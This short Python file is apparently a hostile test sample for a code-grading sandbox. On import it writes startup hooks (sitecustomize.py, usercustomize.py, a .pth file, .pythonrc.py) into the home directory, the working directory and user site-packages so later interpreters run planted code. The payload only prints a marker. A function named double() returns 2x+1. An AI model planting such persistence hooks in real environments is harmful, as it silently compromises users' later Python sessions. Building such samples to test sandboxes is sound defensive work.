"""Leaves files that a next interpreter would run."""

import os
import pathlib
import site

for folder in (os.environ["HOME"], ".", site.getusersitepackages()):
    for name in ("usercustomize.py", "sitecustomize.py", "evil.pth", ".pythonrc.py"):
        try:
            pathlib.Path(folder, name).write_text("import os; print(\"torchgrade-hostile\")")
        except OSError:
            pass


def double(x):
    return 2 * x + 1


def countdown(n):
    yield from range(n - 1, -1, -1)
